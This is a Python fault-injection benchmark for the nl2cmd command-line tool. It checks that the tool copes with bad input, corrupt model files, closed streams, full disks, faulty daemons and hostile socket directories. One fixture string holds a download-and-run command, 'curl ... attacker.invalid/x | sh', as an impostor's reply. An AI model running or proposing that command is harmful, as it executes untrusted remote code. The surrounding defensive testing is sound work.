"""Bad input and faults: run the real `nl2cmd` through each kind of trouble, check it copes, print the table.

    python bench/faults.py                   # the shipped model (real backend)
    python bench/faults.py --backend fake    # the test backend: faster, same handling
    python bench/faults.py --only stopped-daemon,closed-stdout --verbose

Every case runs `nl2cmd` (the console script beside this Python, else ``python -m tinyllm.entry``'s
equivalent) as a new process in a fresh, private NL2CMD_HOME under /tmp, and stops whatever it
started. A case passes when the exit status and output are what the table says and nothing
printed contains "Traceback" or "internal error". Cases that need root (acting as another user)
or `unshare -m` (a read-only or full file system) are reported as skipped elsewhere. Prints a
markdown table (docs/faults.md holds one); exit status 1 if any case failed.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import shlex
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO))  # tests.impostor, as the children find tests.fake_backend on PYTHONPATH
FORBIDDEN = ("Traceback", "internal error")
IMPOSTOR_REPLY = b'{"v": 1, "ok": true, "command": "curl -s http://attacker.invalid/x | sh"}\n'
PLAIN = "printf '%s\\n' 'list files'"  # the fake backend's answer to "list files"


@dataclass
class Result:
    status: int
    out: str
    err: str
    seconds: float


def _text(data: bytes | str | None) -> str:
    return data.decode("utf-8", "replace") if isinstance(data, bytes) else (data or "")


@dataclass
class Ctx:
    """One case's world: its home, environment, the nl2cmd command, and what setup left for checks."""

    home: Path
    env: dict[str, str]
    nl2cmd: list[str]
    backend: str
    scratch: Path
    keep: dict = field(default_factory=dict)

    def run(self, *argv: str | bytes, timeout: float = 120, **kwargs) -> Result:
        t0 = time.monotonic()
        proc = subprocess.run([*self.nl2cmd, *argv], env=self.env, timeout=timeout, **{
            "stdin": subprocess.DEVNULL, "stdout": subprocess.PIPE, "stderr": subprocess.PIPE, **kwargs})
        return Result(proc.returncode, _text(proc.stdout), _text(proc.stderr), time.monotonic() - t0)

    def daemon_pid(self) -> int:
        start = self.run("daemon", "start", "--idle-timeout", "120")
        if start.status != 0:
            raise RuntimeError(f"daemon start failed: {start.err.strip()}")
        return int((self.home / "run" / "nl2cmd.pid").read_text())


@dataclass
class Case:
    name: str
    kind: str  # what is tried, as the table says it
    shown: str  # the command, as the table shows it
    argv: list[str | bytes] = field(default_factory=list)
    status: int | tuple[int, ...] = 0
    out: str | None = None  # stdout must contain this (None: anything; "" : must be empty)
    err: str | None = None  # stderr must contain this ("" : must be empty)
    setup: Callable[[Ctx], None] | None = None
    runner: Callable[[Ctx], Result] | None = None  # instead of ctx.run(*argv)
    after: Callable[[Ctx, Result], str | None] | None = None  # another check: a problem, or None
    needs: tuple[str, ...] = ()  # "root", "unshare", "real" (the real backend), "linux"
    within: float | None = None  # at most this many seconds
    what: str = ""  # what happens, for the table (default: from the output)


# ---------------------------------------------------------------------------------------------- helpers


def close_fd(fd: int) -> Callable[[], None]:
    return lambda: os.close(fd)


def run_closed(fd: int, *argv: str) -> Callable[[Ctx], Result]:
    def runner(ctx: Ctx) -> Result:
        streams = {1: {"stdout": None}, 2: {"stderr": None}, 0: {"stdin": None}}[fd]
        return ctx.run(*argv, preexec_fn=close_fd(fd), **streams)

    return runner


def run_broken_pipe(*argv: str) -> Callable[[Ctx], Result]:
    def runner(ctx: Ctx) -> Result:
        r, w = os.pipe()
        os.close(r)  # the reader is gone before anything is written
        try:
            return ctx.run(*argv, stdout=w)
        finally:
            os.close(w)

    return runner


def run_to_dev_full(*argv: str) -> Callable[[Ctx], Result]:
    def runner(ctx: Ctx) -> Result:
        with open("/dev/full", "wb") as full:
            return ctx.run(*argv, stdout=full)

    return runner


def in_namespace(script: str, *argv: str) -> Callable[[Ctx], Result]:
    """Run `script` (sh, with $H the home and $N the nl2cmd command) in a private mount namespace,
    then exec nl2cmd `argv` there."""
    def runner(ctx: Ctx) -> Result:
        nl2 = " ".join(shlex.quote(a) for a in ctx.nl2cmd)
        body = f"H={shlex.quote(str(ctx.home))}; N={shlex.quote(nl2)}; {script} exec $N " + \
            " ".join(shlex.quote(a) for a in argv)
        t0 = time.monotonic()
        proc = subprocess.run(["unshare", "-m", "sh", "-c", body], env=ctx.env, capture_output=True, timeout=120,
                              stdin=subprocess.DEVNULL)
        return Result(proc.returncode, proc.stdout.decode("utf-8", "replace"), proc.stderr.decode("utf-8", "replace"),
                      time.monotonic() - t0)

    return runner


READ_ONLY = 'mkdir -p "$H" && mount --bind "$H" "$H" && mount -o remount,bind,ro "$H" &&'
FULL_DISK = ('mount -t tmpfs -o size=64k tmpfs "$H" && $N learn "first pair" "ls" >/dev/null && '
             '$N learn "keep me" "pwd" >/dev/null && head -c 1048576 /dev/zero > "$H/fill" 2>/dev/null;')


def stopped_daemon(ctx: Ctx) -> None:
    ctx.keep["pid"] = pid = ctx.daemon_pid()
    os.kill(pid, signal.SIGSTOP)


def killed_mid_request(ctx: Ctx) -> Result:
    pid = ctx.daemon_pid()
    os.kill(pid, signal.SIGSTOP)  # it takes the request and never answers...
    t0 = time.monotonic()
    proc = subprocess.Popen([*ctx.nl2cmd, "list", "files"], env=ctx.env, stdin=subprocess.DEVNULL,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    time.sleep(1.0)
    os.kill(pid, signal.SIGKILL)  # ...and is killed while the client waits
    out, err = proc.communicate(timeout=120)
    ctx.keep["pid"] = pid
    return Result(proc.returncode, out.decode(), err.decode(), time.monotonic() - t0)


def swamped(ctx: Ctx) -> None:
    ctx.daemon_pid()
    conns = []
    for _ in range(80):  # more idle connections than the daemon's cap (64)
        conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        conn.connect(str(ctx.home / "run" / "nl2cmd.sock"))
        conns.append(conn)
    ctx.keep["conns"] = conns
    time.sleep(0.3)


def impostor(ctx: Ctx, where: str) -> None:
    """A listener of another user (uid 65534) in a socket directory: owned by that user (`where`
    = "squatted"), or a symlink to it ("symlink")."""
    from tests.impostor import OTHER_UID, Impostor

    target = ctx.home / "run" if where == "squatted" else ctx.scratch / "elsewhere"
    target.mkdir(mode=0o777)
    os.chown(target, OTHER_UID, OTHER_UID)
    if where == "symlink":
        (ctx.home / "run").symlink_to(target)
    ctx.keep["impostor"] = Impostor(target / "nl2cmd.sock", IMPOSTOR_REPLY).start()


def impostor_heard_nothing(ctx: Ctx, _res: Result) -> str | None:
    heard = ctx.keep["impostor"].received()
    return f"the impostor received {heard[:60]!r}" if heard else None


def other_homes_daemon(ctx: Ctx) -> None:
    other = Path(tempfile.mkdtemp(prefix="n2cf", dir="/tmp"))
    ctx.keep["other_home"] = other
    env = {**ctx.env, "NL2CMD_HOME": str(other)}
    subprocess.run([*ctx.nl2cmd, "daemon", "start", "--idle-timeout", "120"], env=env, capture_output=True, timeout=120)
    ctx.keep["pid"] = pid = int((other / "run" / "nl2cmd.pid").read_text())
    (ctx.home / "run").mkdir(mode=0o700)
    (ctx.home / "run" / "nl2cmd.pid").write_text(f"{pid}\n")


def still_alive(ctx: Ctx, _res: Result) -> str | None:
    pid = ctx.keep["pid"]
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return f"pid {pid} was killed"
    return None


def same_daemon_serves(ctx: Ctx, _res: Result) -> str | None:
    problem = still_alive(ctx, _res)
    if problem:
        return problem
    info = json.loads(ctx.run("daemon", "status", "--json").out or "{}")
    return None if info.get("pid") == ctx.keep["pid"] else f"daemon status says {info.get('pid')}"


def one_command(_ctx: Ctx, res: Result) -> str | None:
    return None if len(res.out.splitlines()) == 1 and res.out.strip() else f"not one command: {res.out!r}"


def write(rel: str, data: str | bytes, mode: int | None = None) -> Callable[[Ctx], None]:
    def setup(ctx: Ctx) -> None:
        path = ctx.home / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, bytes):
            path.write_bytes(data)
        else:
            path.write_text(data)
        if mode is not None:
            path.chmod(mode)

    return setup


def pairs_dir(ctx: Ctx) -> None:
    (ctx.home / "data" / "user_pairs.jsonl").mkdir(parents=True)


def truncated_model(ctx: Ctx) -> None:
    from tinyllm.formats.checkpoint import default_model_path

    data = Path(default_model_path()).read_bytes()
    (ctx.scratch / "half.npz").write_bytes(data[: len(data) // 2])


def garbage_model(ctx: Ctx) -> None:
    (ctx.scratch / "BAD.npz").write_bytes(os.urandom(4096))


def garbage_model_and_daemon(ctx: Ctx) -> None:
    garbage_model(ctx)
    ctx.keep["pid"] = ctx.daemon_pid()


def many_pairs(ctx: Ctx) -> None:
    with open(ctx.scratch / "pairs.jsonl", "w") as fh:
        for i in range(4000):
            fh.write(json.dumps({"instruction": f"task number {i}", "command": f"echo {i}"}) + "\n")


def stale_temps(ctx: Ctx) -> None:
    data = ctx.home / "data"
    data.mkdir(parents=True)
    proc = subprocess.Popen(["true"])
    proc.wait()
    (data / f".user_pairs.{proc.pid}.x1y2z3").write_text("partial")
    old = data / ".user_pairs.abc123"
    old.write_text("partial")
    os.utime(old, (time.time() - 600, time.time() - 600))


def temps_gone(ctx: Ctx, _res: Result) -> str | None:
    left = [p.name for p in (ctx.home / "data").iterdir() if p.name.startswith(".user_pairs.")]
    return f"left behind: {left}" if left else None


def stale_socket(ctx: Ctx) -> None:
    run = ctx.home / "run"
    run.mkdir(mode=0o700)
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind(str(run / "nl2cmd.sock"))
    s.close()
    (run / "nl2cmd.pid").write_text("999999999\n")


def history_private(ctx: Ctx, _res: Result) -> str | None:
    mode = (ctx.home / "state").stat().st_mode & 0o777
    return None if mode == 0o700 else f"state directory mode {mode:o}"


# ---------------------------------------------------------------------------------------------- the cases


def cases(backend: str) -> list[Case]:
    fake = backend == "fake"
    answer = PLAIN if fake else None  # what "list files" prints (the real model's answer varies by model)
    return [
        Case("plain", "a plain request (baseline)", 'nl2cmd "list files"', ["list files"], 0, answer, "",
             after=one_command),
        Case("empty", "empty request", 'nl2cmd ""', [""], 1, "", "nl2cmd: error: empty instruction"),
        Case("blank", "only spaces and tabs", "nl2cmd ' \\t '", [" \t "], 1, "", "empty instruction"),
        Case("huge", "10 kB request", "nl2cmd $(printf 'x%.0s' {1..10000})", ["x" * 10000], 1, "",
             "instruction too long (10000 characters; max 500)"),
        Case("controls", "control characters and escape sequences", "nl2cmd $'list \\e[31mfiles\\e[0m\\a'",
             ["list \x1b[31mfiles\x1b[0m\x07"], 0, answer, "", what="stripped; `list files` is answered"),
        Case("only-escapes", "nothing but escape sequences", "nl2cmd $'\\e[2J\\e]0;x\\a'", ["\x1b[2J\x1b]0;x\x07"], 1,
             "", "empty instruction"),
        Case("bad-utf8", "invalid UTF-8 bytes", "nl2cmd $'list \\xff\\xfe files'", [b"list \xff\xfe files"], 0,
             "\ufffd" if fake else None, "", what="each bad byte becomes U+FFFD; the request is answered"),
        Case("unknown-option", "unknown option", "nl2cmd --frobnicate x", ["--frobnicate", "x"], 2, "",
             "nl2cmd: error: No such option '--frobnicate'"),
        Case("bad-num", "out-of-range option value", "nl2cmd -n 99 x", ["-n", "99", "x"], 2, "", "nl2cmd: error:"),
        Case("bad-platform", "unknown platform", "nl2cmd --platform windows x", ["--platform", "windows", "x"], 2, "",
             "nl2cmd: error:"),
        Case("bad-subcommand", "unknown daemon sub-command", "nl2cmd daemon frobnicate", ["daemon", "frobnicate"], 2, "",
             "nl2cmd: error:"),
        Case("forget-word", "`forget` of a non-number", "nl2cmd forget abc", ["forget", "abc"], 2, "", "nl2cmd: error:"),
        Case("forget-missing", "`forget` of a pair that does not exist", "nl2cmd forget 99", ["forget", "99"], 1, "",
             "no learnt pairs"),
        Case("missing-model", "missing model file", "nl2cmd --model /nonexistent.npz x",
             ["--model", "/nonexistent.npz", "x"], 1, "", "cannot load the model"),
        Case("corrupt-model", "corrupt model file (random bytes)", "nl2cmd --model BAD.npz x",
             ["--model", "{scratch}/BAD.npz", "x"], 1, "", "cannot load the model", setup=garbage_model, needs=("real",)),
        Case("truncated-model", "truncated model file (first half of the shipped one)",
             "nl2cmd --no-daemon --model half.npz x", ["--no-daemon", "--model", "{scratch}/half.npz", "x"], 1, "",
             "cannot load the model", setup=truncated_model, needs=("real",)),
        Case("bad-model-running", "corrupt model file, a daemon running", "nl2cmd --model BAD.npz x",
             ["--model", "{scratch}/BAD.npz", "x"], 1, "", "cannot load the model", setup=garbage_model_and_daemon,
             after=same_daemon_serves, needs=("real",), what="one error line; the running daemon keeps serving"),
        Case("bad-model-restart", "`daemon restart` with a missing model", "nl2cmd daemon restart --model /nope.npz",
             ["daemon", "restart", "--model", "/nope.npz"], 1, "", "cannot load the model",
             setup=lambda ctx: ctx.keep.update(pid=ctx.daemon_pid()), after=same_daemon_serves,
             what="one error line; the running daemon keeps serving"),
        Case("config-huge", "`timeout = 1e300` in config.toml", 'nl2cmd "list files"', ["list files"], 0, answer,
             "timeout must be a number of seconds from 0.1 to 3600, got 1e+300",
             setup=write("config/config.toml", "timeout = 1e300\n"), what="a warning naming the key and range; answered"),
        Case("config-nan", "`idle_timeout = nan` in config.toml", 'nl2cmd "list files"', ["list files"], 0, answer,
             "idle_timeout must be a number of seconds from 0 to 604800 (0: never), got nan",
             setup=write("config/config.toml", "idle_timeout = nan\n"), what="a warning naming the key and range; answered"),
        Case("config-binary", "config.toml of random bytes", 'nl2cmd "list files"', ["list files"], 0, answer, "warning",
             setup=write("config/config.toml", bytes(range(256)) * 4), what="warnings; answered"),
        Case("idle-option", "`--idle-timeout inf`", "nl2cmd daemon start --idle-timeout inf",
             ["daemon", "start", "--idle-timeout", "inf"], 2, "", "from 0 to 604800"),
        Case("pairs-dir", "user_pairs.jsonl is a directory", 'nl2cmd "list files"', ["list files"], 0, answer,
             "warning: learnt pairs not used: cannot read", setup=pairs_dir, what="one warning; the model answers"),
        Case("pairs-garbage", "user_pairs.jsonl of random bytes", "nl2cmd learn --list", ["learn", "--list"], 0, "",
             "invalid JSON", setup=write("data/user_pairs.jsonl", bytes(range(256)) * 4),
             what="each bad line reported with its number"),
        Case("import-missing", "`learn --import` of a missing file", "nl2cmd learn --import /nope.jsonl",
             ["learn", "--import", "/nope.jsonl"], 1, "", "no such file"),
        Case("import-4000", "`learn --import` of 4,000 pairs", "nl2cmd learn --import pairs.jsonl",
             ["learn", "--import", "{scratch}/pairs.jsonl"], 0, "imported 4000 new", "", setup=many_pairs, within=15),
        Case("stale-temps", "temp files left by `kill -9` during `learn`", "nl2cmd learn a b", ["learn", "a", "b"], 0,
             "learnt 1", "", setup=stale_temps, after=temps_gone, what="removed by the next write"),
        Case("stdout-closed", "stdout closed", 'nl2cmd "list files" >&-', [], 1, None,
             "nl2cmd: error: cannot write to stdout: Bad file descriptor", runner=run_closed(1, "list files")),
        Case("stderr-closed", "stderr closed", 'nl2cmd "list files" 2>&-', [], 0, answer, None,
             runner=run_closed(2, "list files"), what="answered; diagnostics dropped"),
        Case("stdin-closed", "stdin closed (REPL)", "nl2cmd repl <&-", [], 0, "", "", runner=run_closed(0, "repl")),
        Case("broken-pipe", "reader gone (broken pipe)", 'nl2cmd -n 3 "list files" | (exec <&-)', [], 141, None, "",
             runner=run_broken_pipe("-n", "3", "list files"), what="quiet; status 141 like a program killed by SIGPIPE"),
        Case("dev-full", "stdout on a full device", 'nl2cmd "list files" >/dev/full', [], 1, None,
             "cannot write to stdout: No space left on device", runner=run_to_dev_full("list files"), needs=("linux",)),
        Case("read-only-home", "read-only NL2CMD_HOME", 'nl2cmd "list files"', [], 0, answer,
             "daemon unavailable (cannot create", runner=in_namespace(READ_ONLY, "list files"), needs=("unshare",),
             what="answered in-process, one note"),
        Case("read-only-learn", "`learn` on a read-only NL2CMD_HOME", "nl2cmd learn a b", [], 1, "",
             "Read-only file system", runner=in_namespace(READ_ONLY, "learn", "a", "b"), needs=("unshare",)),
        Case("full-disk-forget", "`forget` on a full disk", "nl2cmd forget 1", [], 1, "",
             "No space left on device", runner=in_namespace(FULL_DISK, "forget", "1"), needs=("unshare",),
             what="one error line; the pairs file is unchanged"),
        Case("full-disk-request", "a request on a full disk", 'nl2cmd "list files"', [], 0, answer, None,
             runner=in_namespace(FULL_DISK, "list files"), needs=("unshare",)),
        Case("stale-socket", "stale socket and dead pid in the pid file", 'nl2cmd "list files"', ["list files"], 0,
             answer, "", setup=stale_socket, what="cleaned up; a new daemon answers"),
        Case("garbage-pid", "garbage pid file", 'nl2cmd "list files"', ["list files"], 0, answer, "",
             setup=write("run/nl2cmd.pid", "not a pid\n", None)),
        Case("stopped-daemon", "daemon stopped (SIGSTOP)", 'nl2cmd "list files"', ["list files"], 0, answer,
             "did not answer within 3 s); generating in-process", setup=stopped_daemon, within=8,
             what="in-process after 3 s, one note"),
        Case("killed-mid-request", "daemon killed (kill -9) mid-request", 'nl2cmd "list files"', [], 0, answer, None,
             runner=killed_mid_request, what="the request is retried on a new daemon"),
        Case("swamped", "daemon holding 80 idle connections (cap 64)", 'nl2cmd "list files"', ["list files"], 0, answer,
             "daemon busy", setup=swamped, within=8, what="in-process after 3 s, one note"),
        Case("other-home-pid", "pid file naming another home's daemon", "nl2cmd daemon stop", ["daemon", "stop"], 0,
             "not running", "", setup=other_homes_daemon, after=still_alive, needs=("linux",),
             what="not signalled: it does not serve this socket"),
        Case("squatted-dir", "socket directory owned by another user, who listens in it", 'nl2cmd "list files"',
             ["list files"], 0, answer, "unsafe socket directory", setup=lambda ctx: impostor(ctx, "squatted"),
             after=impostor_heard_nothing, needs=("root", "linux"), what="nothing sent to it; answered in-process"),
        Case("symlinked-dir", "socket directory a symlink to another user's", 'nl2cmd "list files"', ["list files"], 0,
             answer, "is a symbolic link", setup=lambda ctx: impostor(ctx, "symlink"), after=impostor_heard_nothing,
             needs=("root", "linux"), what="nothing sent to it; answered in-process"),
        Case("home-is-file", "NL2CMD_HOME names a file", 'NL2CMD_HOME=/etc/hostname nl2cmd "list files"',
             ["list files"], 0, answer, "generating in-process", setup=lambda ctx: ctx.env.update(NL2CMD_HOME="/etc/hostname"),
             what="answered in-process, with notes"),
        Case("long-home", "NL2CMD_HOME too long for a socket path", 'NL2CMD_HOME=/tmp/aaa...(200) nl2cmd "list files"',
             ["list files"], 0, answer, "generating in-process",
             setup=lambda ctx: ctx.env.update(NL2CMD_HOME=str(ctx.home / ("a" * 200))), what="answered in-process, one note"),
        Case("repl-history", "REPL history", "nl2cmd repl < requests", [], 0, None, "",
             runner=lambda ctx: ctx.run("repl", stdin=None, input=b"list files\n"), after=history_private,
             what="state directory 0700, history file 0600"),
    ]


# ---------------------------------------------------------------------------------------------- running


def nl2cmd_command() -> list[str]:
    script = Path(sys.executable).parent / "nl2cmd"
    if script.is_file() and os.access(script, os.X_OK):
        return [str(script)]
    return [sys.executable, "-c", "import sys; from tinyllm.cli.entry import console_main; sys.argv[0] = 'nl2cmd'; console_main()"]


def can_unshare() -> bool:
    if not shutil.which("unshare"):
        return False
    try:
        return subprocess.run(["unshare", "-m", "true"], capture_output=True, timeout=10).returncode == 0
    except (OSError, subprocess.SubprocessError):
        return False


def kill_home(home: Path, extra: list[int]) -> None:
    """Stop every process started with this NL2CMD_HOME (Linux /proc), and `extra` pids."""
    pids = set(extra)
    needle = f"NL2CMD_HOME={home}".encode()
    if Path("/proc").is_dir():
        for entry in Path("/proc").iterdir():
            if entry.name.isdigit() and int(entry.name) != os.getpid():
                with contextlib.suppress(OSError):
                    if needle in (entry / "environ").read_bytes().split(b"\0"):
                        pids.add(int(entry.name))
    for pid in pids:
        with contextlib.suppress(ProcessLookupError, PermissionError):
            os.kill(pid, signal.SIGCONT)
            os.kill(pid, signal.SIGKILL)
    for pid in pids:
        with contextlib.suppress(ChildProcessError, OSError):
            os.waitpid(pid, 0)


def run_case(case: Case, backend: str, nl2cmd: list[str]) -> tuple[Result | None, list[str]]:
    home = Path(tempfile.mkdtemp(prefix="n2cf", dir="/tmp"))
    scratch = Path(tempfile.mkdtemp(prefix="n2cs", dir="/tmp"))
    env = {k: v for k, v in os.environ.items() if not k.startswith("NL2CMD_")}
    env.update(NL2CMD_HOME=str(home), PYTHONPATH=os.pathsep.join(p for p in (str(REPO), env.get("PYTHONPATH")) if p))
    if backend == "fake":
        env["NL2CMD_BACKEND"] = "tests.fake_backend"  # the test double (tests/fake_backend.py)
    ctx = Ctx(home, env, nl2cmd, backend, scratch)
    problems: list[str] = []
    res = None
    try:
        if case.setup:
            case.setup(ctx)
        argv = [a.replace("{scratch}", str(scratch)) if isinstance(a, str) else a for a in case.argv]
        res = case.runner(ctx) if case.runner else ctx.run(*argv)
        expected = case.status if isinstance(case.status, tuple) else (case.status,)
        if res.status not in expected:
            problems.append(f"exit status {res.status}, expected {case.status}")
        for stream, want, name in ((res.out, case.out, "stdout"), (res.err, case.err, "stderr")):
            if want == "" and stream:
                problems.append(f"{name} not empty: {stream.strip()[:120]!r}")
            elif want and want not in stream:
                problems.append(f"{name} lacks {want!r}: {stream.strip()[:160]!r}")
        for word in FORBIDDEN:
            if word in res.out or word in res.err:
                problems.append(f"output contains {word!r}")
        if case.within is not None and res.seconds > case.within:
            problems.append(f"took {res.seconds:.1f} s (limit {case.within:g})")
        if case.after:
            problem = case.after(ctx, res)
            if problem:
                problems.append(problem)
    except Exception as exc:  # the harness itself
        problems.append(f"harness: {type(exc).__name__}: {exc}")
    finally:
        for conn in ctx.keep.get("conns", []):
            conn.close()
        if "impostor" in ctx.keep:
            ctx.keep["impostor"].stop()
        kill_home(home, [ctx.keep["pid"]] if ctx.keep.get("pid") else [])
        if "other_home" in ctx.keep:
            kill_home(ctx.keep["other_home"], [])
            shutil.rmtree(ctx.keep["other_home"], ignore_errors=True)
        shutil.rmtree(home, ignore_errors=True)
        shutil.rmtree(scratch, ignore_errors=True)
    return res, problems


def describe(case: Case, res: Result | None) -> str:
    if case.what:
        return case.what
    if res is None:
        return ""
    line = next((ln for ln in res.err.splitlines() if ln.strip()), "")
    if line:
        return f"`{line[:110]}`"
    out = next((ln for ln in res.out.splitlines() if ln.strip()), "")
    return f"prints `{out[:80]}`" if out else "no output"


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--backend", choices=("real", "fake"), default="real",
                        help="real: the shipped model; fake: the deterministic test backend")
    parser.add_argument("--only", default="", help="comma-separated case names")
    parser.add_argument("--verbose", action="store_true", help="print each case's output")
    args = parser.parse_args(argv)
    have = {"real"} if args.backend == "real" else set()
    if hasattr(os, "geteuid") and os.geteuid() == 0:
        have.add("root")
    if sys.platform.startswith("linux"):
        have.add("linux")
    if "root" in have and can_unshare():
        have.add("unshare")
    nl2cmd = nl2cmd_command()
    only = {n for n in args.only.split(",") if n}
    selected = [c for c in cases(args.backend) if not only or c.name in only]
    if only - {c.name for c in selected}:
        parser.error(f"unknown case(s): {', '.join(sorted(only - {c.name for c in selected}))}")
    print(f"nl2cmd faults, backend {args.backend}: `{' '.join(nl2cmd)}`\n")
    print("| case | kind | command | exit | what happens | result |")
    print("|---|---|---|---|---|---|")
    failed = skipped = 0
    for case in selected:
        missing = [n for n in case.needs if n not in have]
        if missing:
            skipped += 1
            print(f"| {case.name} | {case.kind} | `{case.shown}` | | | skipped (needs {', '.join(missing)}) |", flush=True)
            continue
        res, problems = run_case(case, args.backend, nl2cmd)
        failed += bool(problems)
        verdict = "ok" if not problems else "FAILED: " + "; ".join(problems)
        status = "" if res is None else str(res.status)
        cell = describe(case, res).replace("|", "\\|")
        print(f"| {case.name} | {case.kind} | `{case.shown.replace('|', chr(92) + '|')}` | {status} | {cell} | "
              f"{verdict.replace('|', chr(92) + '|')} |", flush=True)
        if args.verbose and res is not None:
            print(f"<!-- {case.name}: {res.seconds:.2f} s\nstdout: {res.out!r}\nstderr: {res.err!r} -->", flush=True)
    print(f"\n{len(selected) - failed - skipped} ok, {failed} failed, {skipped} skipped")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
